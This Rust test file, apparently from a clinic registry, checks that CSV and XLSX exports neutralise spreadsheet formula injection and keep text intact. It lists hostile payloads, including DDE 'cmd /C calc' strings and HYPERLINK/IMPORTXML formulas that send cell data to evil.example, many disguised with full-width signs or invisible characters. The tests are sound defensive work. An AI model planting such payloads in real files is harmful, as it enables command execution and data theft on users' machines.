//! Tables as files: nothing in them runs, nothing is lost, and what is read back is what was written.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use chrono::{DateTime, NaiveDate, Utc};
use clinic_registry::spreadsheet::write::{self, CUT, Cell, Column, LONGEST, Table};

/// Texts that some spreadsheet would run, or has run.
const HOSTILE: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "+1+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋86",
    "－1",
    "＠SUM(1)",
    "−1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   =1+1",
    "\u{3000}=1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{0}=1+1",
    "\"=1+1\"",
    "\"\"=1+1",
    "“=1+1”",
    "' =1+1",
    "'=1+1",
    "DDE(\"cmd\";\"/C calc\";\"x\")=1",
    ";=1+1",
    "甲,=1+1",
    "甲;=1+1",
    "甲\t=1+1",
    "甲\n=1+1",
    "甲\",\n=1+1,\"",
];

/// Texts that must come back as they are.
const PLAIN: &[&str] = &[
    "王龚中医诊所",
    "𠀀𪚥𬺰",
    "👩‍⚕️🦷",
    "e\u{301}",
    "PDY00001X37150217D2122",
    "371502198506150008",
    "00012",
    "1e5",
    "2026-11-23",
    "3-4",
    "TRUE",
    "#REF!",
    "_x0041_",
    "_x000D_甲_x0_",
    "<f>1+1</f>&amp;]]>",
    "甲\n乙\n丙",
    "  两端的空格  ",
    "a\tb",
    "100%",
    "1=1",
    "甲+乙-丙@丁",
];

fn table(cells: Vec<Cell>) -> Table {
    let column = |title: &str| Column { title: title.to_owned() };
    Table {
        name: "表一".into(),
        columns: vec![column("序号"), column("内容"), column("尾")],
        rows: (0i64..).zip(cells).map(|(n, cell)| vec![Cell::Count(n), cell, Cell::text("尾")]).collect(),
    }
}

/// The cells of the second column as a reader of CSV finds them.
fn through_csv(cells: Vec<Cell>) -> Vec<String> {
    let rows = cells.len();
    let bytes = write::csv(&table(cells)).unwrap();
    let text = std::str::from_utf8(&bytes).unwrap().strip_prefix('\u{feff}').expect("a byte order mark");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(reader.headers().unwrap(), &csv::StringRecord::from(vec!["序号", "内容", "尾"]));
    let read: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(read.len(), rows, "no text makes a line of its own");
    assert!(read.iter().enumerate().all(|(n, row)| row[0] == n.to_string() && &row[2] == "尾" && row.len() == 3));
    read.iter().map(|row| row[1].to_owned()).collect()
}

/// The cells of the second column as a reader of workbooks finds them; there is no formula anywhere.
fn through_xlsx(cells: Vec<Cell>) -> Vec<Data> {
    let rows = cells.len();
    let bytes = write::xlsx(&[table(cells)]).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(&bytes)).unwrap();
    assert_eq!(book.sheet_names(), ["表一"]);
    assert!(book.worksheet_formula("表一").unwrap().is_empty());
    let mut archive = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
    for n in 0..archive.len() {
        let mut part = archive.by_index(n).unwrap();
        let (name, mut text) = (part.name().unwrap().into_owned(), String::new());
        part.read_to_string(&mut text).unwrap();
        assert!(!name.contains("externalLink") && !name.contains("vba"), "{name}");
        assert!(!name.contains("worksheets/") || !text.contains("<f"), "{name} holds a formula");
    }
    let range = book.worksheet_range("表一").unwrap();
    (1..=rows).map(|row| range.get_value((row as u32, 1)).cloned().unwrap_or_default()).collect()
}

fn texts(texts: &[&str]) -> Vec<Cell> {
    texts.iter().map(|text| Cell::text(*text)).collect()
}

#[test]
fn no_text_of_a_csv_file_begins_as_a_formula_and_none_is_lost() {
    for (text, read) in HOSTILE.iter().zip(through_csv(texts(HOSTILE))) {
        let first = read.trim_start_matches(|c: char| c.is_whitespace() || "\"“\u{feff}\u{200b}\u{fffd}".contains(c));
        let sign = first.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '−']);
        assert!(!sign, "{text:?} was written as {read:?}");
        let back = read.strip_prefix('\'').unwrap_or(&read);
        let kept = text.replace("\r\n", "\n").replace('\r', "\n").replace('\0', "\u{fffd}");
        assert_eq!(back, kept, "one apostrophe goes before, and nothing else changes");
    }
    for (text, read) in PLAIN.iter().zip(through_csv(texts(PLAIN))) {
        assert_eq!(*text, read);
    }
}

#[test]
fn a_workbook_keeps_every_text_and_runs_none() {
    for list in [HOSTILE, PLAIN] {
        for (text, read) in list.iter().zip(through_xlsx(texts(list))) {
            let kept = text.replace("\r\n", "\n").replace('\r', "\n").replace('\0', "\u{fffd}");
            assert_eq!(read, Data::String(kept));
        }
    }
}

#[test]
fn what_xml_forbids_is_replaced_in_both_alike() {
    let forbidden: Vec<char> =
        (0u32..0x20).chain([0x7f, 0x85, 0x9f, 0xfffe, 0xffff, 0x1ffff]).filter_map(char::from_u32).collect();
    let list: Vec<String> = forbidden.iter().map(|c| format!("甲{c}乙")).collect();
    let cells = || list.iter().map(Cell::text).collect::<Vec<_>>();
    for ((c, csv), xlsx) in forbidden.iter().zip(through_csv(cells())).zip(through_xlsx(cells())) {
        let expected = match c {
            '\t' | '\n' => format!("甲{c}乙"),
            '\r' => "甲\n乙".to_owned(),
            _ => "甲\u{fffd}乙".to_owned(),
        };
        assert_eq!((csv.as_str(), &xlsx), (expected.as_str(), &Data::String(expected.clone())), "{c:?}");
    }
}

#[test]
fn a_cell_of_a_workbook_that_cannot_hold_everything_says_so() {
    // Characters outside the basic plane count twice in a workbook.
    for (one, units) in [("甲", 1), ("𠀀", 2), ("\u{1}", 1)] {
        let most = LONGEST / units;
        let (full, more) = (one.repeat(most), one.repeat(most + 1));
        let read = through_xlsx(vec![Cell::text(&full), Cell::text(&more)]);
        assert_eq!(read[0], Data::String(write::clean(&full)), "{one}");
        let Data::String(cut) = &read[1] else { panic!("a text is a text") };
        assert!(cut.ends_with(CUT) && cut.encode_utf16().count() <= LONGEST, "{one}");
        assert!(cut.encode_utf16().count() + 2 > LONGEST, "as much as there is room for");
        assert!(write::clean(&more).starts_with(cut.strip_suffix(CUT).unwrap()));
        assert_eq!(through_csv(vec![Cell::text(&more)]), [write::clean(&more)], "lines have no such limit");
    }
    let escapes = "_x0041_".repeat(LONGEST / 7);
    assert!(matches!(&through_xlsx(vec![Cell::text(escapes)])[0], Data::String(_)));
}

#[test]
fn values_keep_their_kind() {
    let day = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
    let moment: DateTime<Utc> = "2026-11-23T02:00:00Z".parse().unwrap();
    let cells = vec![
        Cell::Count(12),
        Cell::Count(-3),
        Cell::Count(i64::MAX),
        Cell::Measure(12.345, 1),
        Cell::Measure(-0.5, 1),
        Cell::Measure(f64::NAN, 1),
        Cell::Day(day),
        Cell::Moment(moment),
        Cell::Empty,
        Cell::text(""),
        Cell::text("371502198506150008"),
    ];
    let read = through_xlsx(cells.clone());
    assert_eq!(read[0], Data::Float(12.0));
    assert_eq!(read[1], Data::Float(-3.0));
    assert_eq!(read[2], Data::String(i64::MAX.to_string()), "what is not exact as a number is a text");
    assert_eq!(read[3], Data::Float(12.345));
    assert_eq!(read[4], Data::Float(-0.5));
    assert_eq!(read[5], Data::Empty);
    let Data::DateTime(date) = &read[6] else { panic!("{:?} is no day", read[6]) };
    assert_eq!(date.as_f64(), 46349.0, "days since 1899-12-30");
    assert_eq!(read[7], Data::String("2026-11-23 10:00".into()));
    assert_eq!((&read[8], &read[9]), (&Data::Empty, &Data::Empty));
    assert_eq!(read[10], Data::String("371502198506150008".into()), "a long number is a name");
    let lines = through_csv(cells);
    let expected = [
        "12",
        "-3",
        "9223372036854775807",
        "12.3",
        "-0.5",
        "",
        "2026-11-23",
        "2026-11-23 10:00",
        "",
        "",
        "371502198506150008",
    ];
    assert_eq!(lines, expected);
}

#[test]
fn equal_tables_make_equal_files() {
    let one = table(texts(PLAIN));
    assert_eq!(write::xlsx(std::slice::from_ref(&one)).unwrap(), write::xlsx(std::slice::from_ref(&one)).unwrap());
    assert_eq!(write::csv(&one).unwrap(), write::csv(&one).unwrap());
}
